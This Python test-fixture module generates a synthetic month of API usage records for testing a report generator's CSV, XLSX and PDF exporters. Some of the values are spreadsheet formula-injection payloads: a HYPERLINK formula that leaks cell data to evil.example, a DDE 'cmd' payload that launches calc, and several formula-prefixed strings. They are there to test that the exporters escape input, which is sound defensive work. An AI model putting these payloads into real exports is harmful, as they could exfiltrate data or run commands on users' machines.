"""Build Reports for exporter tests: a small deterministic month with hostile and odd names."""

from __future__ import annotations

import contextlib
import io
import random
from collections.abc import Iterator
from dataclasses import replace
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

from reportgen.config import Config
from reportgen.core.aggregate import aggregate_records
from reportgen.core.periods import Period, parse_period
from reportgen.core.records import GatewayStatus, LogType, UsageRecord
from reportgen.core.report import Provenance, Report
from reportgen.exporters import csv_exporter
from reportgen.exporters import pdf as pdf_exporter
from reportgen.exporters import xlsx as xlsx_exporter
from reportgen.hookspecs import ExportContext, Exporter
from reportgen.read import Scope, open_period
from reportgen.templating import load_template

TZ = ZoneInfo("Asia/Shanghai")
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_KEYS = (HYPERLINK, "@SUM(1+1)", "+1", "-1")
CONTROL_KEY = "ctrl\x01na\x00me\x1f\x0b\x7f"
SLASHY_KEY = "ops/team:a*[b]?c\\d"
LONG_A = "Research Group Alpha - Natural Language A"  # 41 chars; shares its first 31 with LONG_B
LONG_B = "Research Group Alpha - Natural Language B"
MEMBERS = {
    "张三": ("key-zhangsan", "key-zhangsan-batch"),
    "Alice Smith": ("key-alice",),
    "王五": ("key-wangwu-idle",),
    LONG_A: ("key-long-a",),
    LONG_B: ("key-long-b",),
}
MODELS = ("gpt-5-mini", "claude-sonnet-4", "deepseek-v3", "=cmd|' /C calc'!A0")
GENERATED_AT = datetime(2026, 5, 1, 9, 30, tzinfo=TZ)
FINGERPRINT = "sha256:3f2a9c1b7e5d4a6f8b0c2d4e6f8a0b1c3d5e7f9a1b3c5d7e9f0a2b4c6d8e0f1a"


def config() -> Config:
    return Config(timezone="Asia/Shanghai", members={k: tuple(v) for k, v in MEMBERS.items()})


def status(rate: Decimal | None = Decimal("7.1234")) -> GatewayStatus:
    read_at = int(datetime(2026, 4, 30, 23, 0, tzinfo=TZ).timestamp())
    return GatewayStatus(quota_per_unit=Decimal(500000), read_at=read_at, usd_exchange_rate=rate)


def active_keys() -> list[str]:
    keys = [k for ks in MEMBERS.values() for k in ks if "idle" not in k]
    return keys + [*HOSTILE_KEYS, CONTROL_KEY, SLASHY_KEY, "history", "'quoted'"]


def sample_records(n: int = 400, seed: int = 7) -> list[UsageRecord]:
    """``n`` rows over April 2026 (Shanghai): consumption, refunds, errors, every odd key."""
    rng = random.Random(seed)
    start = int(datetime(2026, 4, 1, tzinfo=TZ).timestamp())
    end = int(datetime(2026, 5, 1, tzinfo=TZ).timestamp())
    keys = active_keys()
    records = []
    for i in range(n):
        key = keys[i % len(keys)]
        kind = LogType.CONSUME
        if i % 23 == 5:
            kind = LogType.REFUND
        elif i % 31 == 7:
            kind = LogType.ERROR
        prompt = rng.randint(10, 40000)
        completion = rng.randint(0, 8000)
        quota = 0 if kind == LogType.ERROR else rng.randint(1, 90000)
        records.append(
            UsageRecord(
                created_at=rng.randint(start, end - 1) if i else start,  # one row on the boundary
                type=int(kind),
                token_name=key,
                model_name=MODELS[i % len(MODELS)],
                quota=quota,
                prompt_tokens=prompt if kind == LogType.CONSUME else 0,
                completion_tokens=completion if kind == LogType.CONSUME else 0,
                use_time_ms=rng.randint(80, 90000),
                request_id=f"req-{i:05d}" if i % 9 else "=1+2",
                client="@evil-client" if i % 17 == 0 else "python-requests/2.32",
                http_status=500 if kind == LogType.ERROR else 200,
                billing_source="subscription" if i % 11 == 0 else "wallet",
            )
        )
    # A row just outside the period must never show up.
    records.append(UsageRecord(created_at=end, type=2, token_name="key-alice", model_name="x", quota=5))
    return records


def make_report(
    records: list[UsageRecord] | None = None,
    *,
    member: str | None = None,
    rate: Decimal | None = Decimal("7.1234"),
    period: str = "2026-04",
) -> Report:
    records = sample_records() if records is None else records
    report = aggregate_records(
        records,
        period=parse_period(period, TZ),
        config=config(),
        status=status(rate),
        member=member,
        generated_at=GENERATED_AT,
    )
    return replace(report, provenance=Provenance(base_url="https://gw.example", fingerprint=FINGERPRINT))


def empty_report() -> Report:
    return make_report([])


def context(lang: str = "zh", template: str | None = None, **options: str) -> ExportContext:
    return ExportContext(lang=lang, template=load_template(template, lang), options=options)


def builtin_exporters() -> dict[str, Exporter]:
    """The built-in exporters, collected through their hook (independent of the global registry)."""
    found: list[Exporter] = []
    for module in (csv_exporter, xlsx_exporter, pdf_exporter):
        module.register_exporters(found.append)
    return {e.name: e for e in found}


def export(name: str, report: Report, lang: str = "zh", template: str | None = None, **options: str) -> bytes:
    """Run a built-in exporter into memory."""
    exporter = builtin_exporters()[name]
    buf = io.BytesIO()
    exporter.write(report, buf, context(lang, template, **options))
    return buf.getvalue()


@contextlib.contextmanager
def open_report(
    config: Config, period: Period, member: str | None = None, generated_at: datetime | None = None
) -> Iterator[Report]:
    """The report of a period's view (the one read path), for tests that only need the figures."""
    with open_period(config, period, Scope.of(member), generated_at=generated_at) as view:
        yield view.report


@contextlib.contextmanager
def open_project_report(config: Config, name: str, generated_at: datetime | None = None) -> Iterator[Report]:
    with open_period(config, None, Scope.of(project=name), generated_at=generated_at) as view:
        yield view.report
